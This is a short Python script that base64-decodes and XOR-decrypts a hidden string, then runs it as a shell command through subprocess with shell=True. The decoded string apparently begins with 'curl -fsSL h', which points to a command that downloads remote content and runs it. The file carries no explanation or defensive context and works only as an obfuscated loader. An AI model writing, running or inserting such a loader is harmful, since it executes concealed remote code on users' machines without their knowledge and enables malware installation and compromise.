import base64, subprocess
KEY = b'k3y'
blob = base64.b64decode('CEYLBxNUDUAqJxMRH0cJGAlWRFcVRVYBCl4JB1ZXBVYNRENXGFtZFxMKAw==')
plain = bytes(c ^ KEY[i % len(KEY)] for i, c in enumerate(blob))
subprocess.call(plain.decode(), shell=True)
